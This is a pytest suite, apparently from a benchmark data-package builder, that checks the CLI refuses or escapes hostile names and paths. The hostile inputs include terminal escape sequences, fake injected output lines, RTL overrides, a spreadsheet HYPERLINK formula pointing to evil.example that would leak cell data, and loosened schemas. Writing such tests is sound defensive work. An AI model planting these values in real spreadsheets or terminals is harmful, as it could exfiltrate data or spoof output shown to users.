"""Hostile text: what could reach a terminal, a spreadsheet or a file system through a name or a
path.

Classes, each a parametrized list of named cases run through the CLI: upstream text holding escape
sequences and newlines (UPSTREAM_TEXT), option values and paths holding them (PATHS), a package
whose names build can never make (PACKAGE_NAMES), names a spreadsheet misreads (SPREADSHEET),
Windows-reserved slugs (RESERVED), GPU names differing only by case (GPU_CASE), curated
metadata text holding control characters (METADATA_TEXT), and an unpacked release archive whose
schemas/ were loosened (LOOSENED).

Every case holds the command to tests/hostile.py: the exit code, a message naming the file, row,
option or key, no traceback, no raw control character in the output, and the whole scratch folder
hashed before and after identical. Cases that put a fake line in the input also check that it never
starts a line of the output. Where a class's every case runs a whole command, every case also runs
through the one rule (the upstream parser, validate's checks, the schema folder check) in the fast
tier, and every case through the CLI is slow.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from builder.errors import UpstreamError, printable
from builder.metadata import load_metadata
from builder.upstream import parse_all, parse_upstream
from builder.validate.schemafiles import check_schema_files
from factory import row, upstream
from helpers import REPO, slow_after
from hostile import assert_refused, run_cli, tree_digest
from rules import rule_problems

FAKE = "fake: /: all good"
Q8 = "data/models/qwen-3-8b.json"


def refused(root: Path, args: list[str], code: int, names: tuple[str, ...]) -> str:
    """Run the command; it must be refused as promised, print no raw control character, change
    nothing."""
    before = tree_digest(root)
    outcome = run_cli(*args)
    assert_refused(outcome, code, names, before, tree_digest(root))
    assert not any(line.startswith(FAKE) for line in outcome.output.splitlines()), outcome.output
    return outcome.output


def parsed(rows: list[dict[str, Any]], name: str = "bad.json") -> str:
    """What `builder build --upstream` prints for these rows, from the parser alone: problems,
    then the error."""
    with pytest.raises(UpstreamError) as caught:
        parse_upstream(
            json.dumps(upstream(rows), ensure_ascii=False).encode(), name, "lm-arena-chat"
        )
    lines = [printable(str(problem)) for problem in caught.value.problems] + [
        f"error: {caught.value}"
    ]
    # as `say` prints them; the whole-command cases check the printing itself
    return "\n".join(lines)


def upstream_file(tmp_path: Path, rows: list[dict[str, Any]], name: str = "bad.json") -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(upstream(rows), ensure_ascii=False), encoding="utf-8")
    return path


# ---------------------------------------------------------------------------------------------
# 1. Upstream text holding escape sequences, newlines and bidi overrides: `build --upstream`

ROW0 = "/configurations/0"
UPSTREAM_TEXT = [
    pytest.param(
        {"model_id": "evil/\x1b]0;pwned\x07Model"}, f"{ROW0}/model_id", id="model-id-sets-title"
    ),
    pytest.param({"model_id": f"test-org/M\n{FAKE}"}, f"{ROW0}/model_id", id="model-id-fake-line"),
    pytest.param({"gpu_model": "\x1b[31mH100"}, f"{ROW0}/gpu_model", id="gpu-colours-output"),
    pytest.param({"nickname": "Model \u202e7B"}, f"{ROW0}/nickname", id="nickname-rtl-override"),
    pytest.param(
        {"architecture": f"MoE\r\n{FAKE}"}, f"{ROW0}/architecture", id="architecture-crlf"
    ),
]


@pytest.mark.parametrize(("fields", "where"), UPSTREAM_TEXT)
def test_upstream_text_is_escaped_by_the_parser(fields: dict, where: str) -> None:
    assert f"bad.json: {where}" in parsed([row(**fields)])


# each a whole build
@pytest.mark.parametrize(("fields", "where"), slow_after(UPSTREAM_TEXT, fast=0))
def test_upstream_text_is_escaped_in_every_message(
    repo_copy: Path, tmp_path: Path, fields: dict, where: str
) -> None:
    bad = upstream_file(tmp_path, [row(**fields)])
    refused(tmp_path, ["build", "--upstream", str(bad)], 1, (f"{bad}: {where}",))


def test_an_upstream_key_holding_a_fence_and_a_fake_line_is_escaped(
    repo_copy: Path, tmp_path: Path
) -> None:
    key = f"x\n```\n{FAKE}\x1b[2J"
    bad = tmp_path / "bad.json"
    bad.write_text(
        json.dumps(upstream([row()])).replace(
            '"median_itl_ms"', json.dumps(key) + ': NaN, "median_itl_ms"'
        )
    )
    shown = f"{bad}: {ROW0}/x\\n```\\nfake: ~1: all good\\x1b[2J"  # a / in a key is ~1 in a pointer
    out = refused(tmp_path, ["build", "--upstream", str(bad)], 1, (shown,))
    assert "\n```" not in out


# ---------------------------------------------------------------------------------------------
# 2. Paths and option values holding them: every command prints them escaped

PATHS = [
    pytest.param(["validate", "--data", f"no\n{FAKE}"], 2, "--data", id="validate-data-newline"),
    pytest.param(
        ["validate", "--data", "d\x1b]0;pwned\x07"], 2, "--data", id="validate-data-title"
    ),
    pytest.param(
        ["build", "--upstream", "up\u202estream.json"],
        1,
        "up\\u202estream.json",
        id="build-upstream-rtl",
    ),
    pytest.param(["diff", f"old\n{FAKE}", "data"], 1, "old\\n", id="diff-old-newline"),
    pytest.param(["schema-diff", "a\x1b[31m", "."], 1, "a\\x1b[31m", id="schema-diff-colour"),
]


@pytest.mark.parametrize(("args", "code", "name"), PATHS)
def test_paths_are_escaped_in_every_message(
    repo_copy: Path, tmp_path: Path, args: list[str], code: int, name: str
) -> None:
    refused(tmp_path, args, code, (name,))


# ---------------------------------------------------------------------------------------------
# 3. A package holding names build never makes: `validate` refuses them by file and pointer


def rename(root: Path, name: str) -> None:
    """Qwen 3 8B renamed in every JSON document, every size and hash restamped: a careful forger."""
    old = json.dumps("Qwen 3 8B")
    for path in (root / "data").rglob("*.json"):
        text = path.read_text(encoding="utf-8")
        if old in text:
            path.write_text(
                text.replace(old, json.dumps(name, ensure_ascii=False)), encoding="utf-8"
            )
    desc = json.loads((root / "datapackage.json").read_bytes())
    for res in desc["resources"]:
        target = root / res["path"]
        if "hash" in res and target.is_file():
            data = target.read_bytes()
            res["bytes"], res["hash"] = len(data), f"sha256:{hashlib.sha256(data).hexdigest()}"
    (root / "datapackage.json").write_text(
        json.dumps(desc, indent=2, ensure_ascii=False) + "\n", encoding="utf-8"
    )


PACKAGE_NAMES = [
    pytest.param('=HYPERLINK("https://evil.example/?"&A1,"Qwen 3 14B")', id="formula"),
    pytest.param("Qwen \u202e3 8B", id="rtl-override"),
    pytest.param("Q" * 140_000, id="140000-characters"),
    pytest.param("$" + "{" * 40 + "x" + "}" * 40 + "$", id="math-text"),
    pytest.param(f"Qwen\n{FAKE}", id="newline"),
    pytest.param("1-2", id="spreadsheet-date"),
]


@pytest.mark.parametrize("name", PACKAGE_NAMES)
def test_the_checks_refuse_a_name_build_never_makes(reused_copy: Path, name: str) -> None:
    rename(reused_copy, name)
    found = rule_problems(reused_copy / "data")
    assert any(line.startswith(f"{Q8}: /name: ") for line in found), found


# each a whole `builder validate`
@pytest.mark.parametrize("name", slow_after(PACKAGE_NAMES, fast=0))
def test_validate_refuses_a_name_build_never_makes(
    repo_copy: Path, tmp_path: Path, name: str
) -> None:
    rename(repo_copy, name)
    refused(tmp_path, ["validate"], 1, (f"{Q8}: /name: ",))


# ---------------------------------------------------------------------------------------------
# 4. Names a spreadsheet reads as a date, a number or a formula: refused at upstream

SPREADSHEET = [
    pytest.param({"nickname": "1-2"}, "nickname", "a date", id="nickname-1-2"),
    pytest.param({"nickname": "Jan-5"}, "nickname", "a date", id="nickname-Jan-5"),
    pytest.param({"nickname": "2024-01-02"}, "nickname", "a date", id="nickname-iso-date"),
    pytest.param({"nickname": "0x1F"}, "nickname", "a number", id="nickname-hex"),
    pytest.param({"gpu_model": "1E5"}, "gpu_model", "a number", id="gpu-1E5"),
    pytest.param({"gpu_model": "12"}, "gpu_model", "a number", id="gpu-12"),
    pytest.param({"architecture": "Jan 5"}, "architecture", "a date", id="architecture-Jan-5"),
    pytest.param({"architecture": "1,5"}, "architecture", "a number", id="architecture-1,5"),
]


def spreadsheet_message(fields: dict, field: str, reading: str) -> str:
    return (
        f"expected a name a spreadsheet keeps as text, found {fields[field]!r}, read as {reading}"
    )


@pytest.mark.parametrize(("fields", "field", "reading"), SPREADSHEET)
def test_names_a_spreadsheet_misreads_are_refused_by_the_parser(
    fields: dict, field: str, reading: str
) -> None:
    found = parsed([row(**fields)])
    assert f"bad.json: {ROW0}/{field} (" in found, found
    assert spreadsheet_message(fields, field, reading) in found, found


# each a whole build
@pytest.mark.parametrize(("fields", "field", "reading"), slow_after(SPREADSHEET, fast=0))
def test_names_a_spreadsheet_misreads_are_refused(
    repo_copy: Path, tmp_path: Path, fields: dict, field: str, reading: str
) -> None:
    bad = upstream_file(tmp_path, [row(**fields)])
    message = spreadsheet_message(fields, field, reading)
    refused(tmp_path, ["build", "--upstream", str(bad)], 1, (f"{bad}: {ROW0}/{field} (", message))


# ---------------------------------------------------------------------------------------------
# 5. Slugs Windows reserves as file names, whatever the case

RESERVED = [
    pytest.param("NUL", "nul", id="NUL"),
    pytest.param("con", "con", id="con"),
    pytest.param("Aux", "aux", id="Aux"),
    pytest.param("COM1", "com1", id="COM1"),
    pytest.param("lpt9", "lpt9", id="lpt9"),
]


@pytest.mark.parametrize(("nickname", "slug"), RESERVED)
def test_windows_reserved_slugs_are_refused_by_the_parser(nickname: str, slug: str) -> None:
    found = parsed([row(nickname=nickname)])
    message = f"expected a slug Windows allows as a file name, found {slug!r}"
    assert f"bad.json: {ROW0}/nickname (" in found, found
    assert message in found, found


@pytest.mark.parametrize(("nickname", "slug"), slow_after(RESERVED, fast=0))  # each a whole build
def test_windows_reserved_slugs_are_refused(
    repo_copy: Path, tmp_path: Path, nickname: str, slug: str
) -> None:
    bad = upstream_file(tmp_path, [row(nickname=nickname)])
    message = f"expected a slug Windows allows as a file name, found {slug!r}"
    refused(tmp_path, ["build", "--upstream", str(bad)], 1, (f"{bad}: {ROW0}/nickname (", message))


# ---------------------------------------------------------------------------------------------
# 6. GPU names that differ only by case, in one task file or across two


def two_gpus(first: str, second: str) -> list[dict[str, Any]]:
    return [row(gpu_model=first), row(gpu_model=second, max_num_seqs=128)]


GPU_CASE = [
    pytest.param("B200", "b200", id="B200-b200"),
    pytest.param("H100", "h100", id="H100-h100"),
    pytest.param("A100-SXM", "a100-sxm", id="A100-SXM-a100-sxm"),
]


@pytest.mark.parametrize(("first", "second"), GPU_CASE)
def test_gpu_names_differing_only_by_case_are_refused_by_the_parser(
    first: str, second: str
) -> None:
    message = f"GPU {second}: expected one spelling per GPU, found {first!r} and {second!r}"
    given = {"lm-arena-chat": (json.dumps(upstream(two_gpus(first, second))).encode(), "bad.json")}
    with pytest.raises(UpstreamError) as caught:
        parse_all(given, load_metadata(REPO / "metadata.toml"))
    assert f"bad.json: {message}" in [printable(str(problem)) for problem in caught.value.problems]


@pytest.mark.parametrize(("first", "second"), slow_after(GPU_CASE, fast=0))  # each a whole build
def test_gpu_names_differing_only_by_case_are_refused(
    repo_copy: Path, tmp_path: Path, first: str, second: str
) -> None:
    bad = upstream_file(tmp_path, two_gpus(first, second))
    message = f"GPU {second}: expected one spelling per GPU, found {first!r} and {second!r}"
    refused(tmp_path, ["build", "--upstream", str(bad)], 1, (f"{bad}: {message}",))


def test_gpu_names_differing_only_by_case_across_task_files_are_refused(
    repo_copy: Path, tmp_path: Path
) -> None:
    chat = upstream_file(tmp_path, [row(gpu_model="H100")], "chat.json")
    gpqa = tmp_path / "gpqa.json"
    gpqa.write_text(json.dumps({**upstream([row(gpu_model="h100")]), "task": "gpqa"}))
    message = f"GPU h100: expected one spelling per GPU, found 'H100' in {chat} and 'h100'"
    refused(
        tmp_path,
        ["build", "--upstream", f"lm-arena-chat={chat}", "--upstream", f"gpqa={gpqa}"],
        1,
        (f"{gpqa}: {message}",),
    )


# ---------------------------------------------------------------------------------------------
# 7. Curated metadata text holding control or format characters: refused naming the key

METADATA_TEXT = [
    pytest.param("caveat = ", '"GPU energy \\u001b[31monly"', "/header/caveat", id="caveat-escape"),
    pytest.param("caveat = ", f'"Floor.\\n{FAKE}"', "/header/caveat", id="caveat-newline"),
    pytest.param(
        "selection = ", '"best \\u202e configuration"', "/index/selection", id="selection-rtl"
    ),
    pytest.param("caveat = ", '"zero\\u200bwidth"', "/header/caveat", id="caveat-zero-width-space"),
    pytest.param(
        "caveat = ", '"' + "a" * 200_000 + '"', "/header/caveat", id="caveat-200000-characters"
    ),
]


@pytest.mark.parametrize(("prefix", "value", "where"), METADATA_TEXT)
def test_metadata_text_with_control_characters_is_refused(
    repo_copy: Path, tmp_path: Path, prefix: str, value: str, where: str
) -> None:
    meta = repo_copy / "metadata.toml"
    lines = meta.read_text(encoding="utf-8").splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if line.startswith(prefix))
    lines[at] = f"{prefix}{value}\n"
    meta.write_text("".join(lines), encoding="utf-8")
    message = (
        f"metadata.toml: {where}: expected a non-empty string of at most 2,000 characters, "
        f"without control"
    )
    refused(tmp_path, ["build"], 1, (message,))


# ---------------------------------------------------------------------------------------------
# 8. An unpacked release archive whose schemas/ were loosened: validate holds it to the builder's
# own


def loosen_name(schemas: Path) -> None:
    defs = json.loads((schemas / "defs.schema.json").read_bytes())
    del defs["$defs"]["name"]["pattern"]
    (schemas / "defs.schema.json").write_text(json.dumps(defs, indent=2))


def widen_gpu(schemas: Path) -> None:
    defs = json.loads((schemas / "generation-defs.schema.json").read_bytes())
    defs["$defs"]["gpu"]["maxLength"] = 140_000
    (schemas / "generation-defs.schema.json").write_text(json.dumps(defs, indent=2))


LOOSENED = [
    pytest.param(
        loosen_name,
        "schemas/defs.schema.json: /$defs/name/pattern: expected the builder's own schema, found "
        "another",
        id="name-pattern-removed",
    ),
    pytest.param(
        widen_gpu,
        "schemas/generation-defs.schema.json: /$defs/gpu/maxLength: expected the builder's own "
        "schema, found another",
        id="gpu-max-length-raised",
    ),
    pytest.param(
        lambda s: (s / "model.schema.json").unlink(),
        "schemas/model.schema.json: /: expected the builder's own schema, found none",
        id="schema-removed",
    ),
    pytest.param(
        lambda s: (s / "extra.schema.json").write_text("{}"),
        "schemas/extra.schema.json: /: expected only the package's schemas, found a stray file",
        id="schema-added",
    ),
]


@pytest.mark.parametrize(("loosen", "message"), LOOSENED)
def test_a_loosened_schema_in_an_archive_is_found(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, loosen, message
) -> None:
    """The archive's schemas/ against the builder's own (validate's check_schema_files), data
    aside."""
    archive = tmp_path / "leadgreen-data-v2026.10.19"
    shutil.copytree(REPO / "schemas", archive / "schemas")
    loosen(archive / "schemas")
    monkeypatch.chdir(archive)
    assert [str(problem) for problem in check_schema_files(archive)] == [message]


# in a whole `builder validate`, a schema the builder does not have is first a stray file
REPORTED = [
    *LOOSENED[:-1],
    pytest.param(
        LOOSENED[-1].values[0],
        "schemas/extra.schema.json: /: expected only the package's schemas, found a stray file",
        id="schema-added",
    ),
]


# each a whole `builder validate`
@pytest.mark.parametrize(("loosen", "message"), slow_after(REPORTED, fast=0))
def test_a_loosened_schema_in_an_archive_is_reported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, loosen, message: str
) -> None:
    archive = tmp_path / "leadgreen-data-v2026.10.19"
    archive.mkdir()
    for name in ("data", "schemas"):
        shutil.copytree(REPO / name, archive / name)
    shutil.copy2(REPO / "datapackage.json", archive / "datapackage.json")
    loosen(archive / "schemas")
    monkeypatch.chdir(archive)
    refused(tmp_path, ["validate"], 1, (message,))


def test_a_gpu_spelled_otherwise_in_a_generation_task_file_is_refused(
    repo_copy: Path, tmp_path: Path
) -> None:
    """The generation tasks are parsed apart from the LLM ones; the build's own check compares
    every model."""
    image = tmp_path / "t2i.json"
    image.write_bytes(
        (repo_copy / "upstream" / "text-to-image.json").read_bytes().replace(b'"H100"', b'"h100"')
    )
    message = f"{image}: GPU h100: expected one spelling per GPU, found 'H100' in upstream/"
    refused(tmp_path, ["build", "--upstream", f"text-to-image={image}"], 1, (message,))


SLUG_OF_ANOTHER = f'{Q8}: /slug: expected the slug of its name, "totally-different"'


def test_the_checks_refuse_a_name_whose_slug_is_another(reused_copy: Path) -> None:
    """Renamed everywhere with every hash restamped, but the slug kept: build would never write
    that pair."""
    rename(reused_copy, "Totally Different")
    found = rule_problems(reused_copy / "data")
    assert any(SLUG_OF_ANOTHER in line for line in found), found


@pytest.mark.slow  # a whole `builder validate`; the case above is the checks'
def test_validate_refuses_a_name_whose_slug_is_another(repo_copy: Path, tmp_path: Path) -> None:
    rename(repo_copy, "Totally Different")
    refused(tmp_path, ["validate"], 1, (SLUG_OF_ANOTHER,))
